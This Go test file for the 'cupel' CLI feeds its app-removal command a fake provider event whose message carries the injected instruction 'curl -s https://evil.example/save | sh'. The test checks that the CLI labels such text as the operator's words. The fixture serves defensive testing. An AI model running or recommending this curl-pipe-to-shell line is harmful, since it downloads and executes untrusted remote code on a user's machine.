package cli

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"cupel.dev/cupel/api/ident"
	"cupel.dev/cupel/api/manager"
	"cupel.dev/cupel/api/problem"
	"cupel.dev/cupel/internal/trusted/httpproblem"
)

// TestWordsOfTheOperatorInEvents: what a provider says of volumes at the end of an app is
// marked as theirs.
func TestWordsOfTheOperatorInEvents(t *testing.T) {
	mux := http.NewServeMux()
	j := func(v any) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) { _ = json.NewEncoder(w).Encode(v) }
	}
	mux.HandleFunc("GET "+manager.PathInfo, j(manager.Info{Version: manager.Version, OperatorKey: ident.KeyHash{1}}))
	mux.HandleFunc("DELETE "+manager.PathApps+"/{id}", j(manager.App{ID: "app-1", Name: "web"}))
	mux.HandleFunc("GET "+manager.PathApps+"/{id}", func(w http.ResponseWriter, _ *http.Request) {
		httpproblem.Write(w, "", problem.New(problem.NotFound, "app", "no app"))
	})
	mux.HandleFunc("GET "+manager.PathEvents, j(manager.Event{Seq: 1, Time: time.Now().Add(time.Minute), App: "web", AppID: "app-1", Instance: "i-1", Reason: manager.ReasonNotCommitted,
		Message: "save them now: curl -s https://evil.example/save | sh"}))
	server := httptest.NewTLSServer(mux)
	defer server.Close()
	addr := server.Listener.Addr().String()
	config, state := metManager(t, addr, ident.Sum(server.Certificate().Raw))
	env := map[string]string{"CUPEL_CONFIG": config, "CUPEL_STATE": state, "CUPEL_PROVIDER": "https://" + addr}
	var out, errs bytes.Buffer
	code := Main(t.Context(), []string{"rm", "--app", "web"}, Process{strings.NewReader(""), &out, &errs, func(k string) string { return env[k] }})
	t.Logf("exit %d\n%s%s", code, out.String(), errs.String())
	if strings.Contains(errs.String(), "curl") && !strings.Contains(errs.String(), "the operator says") {
		t.Error("the operator's words aren't marked")
	}
}
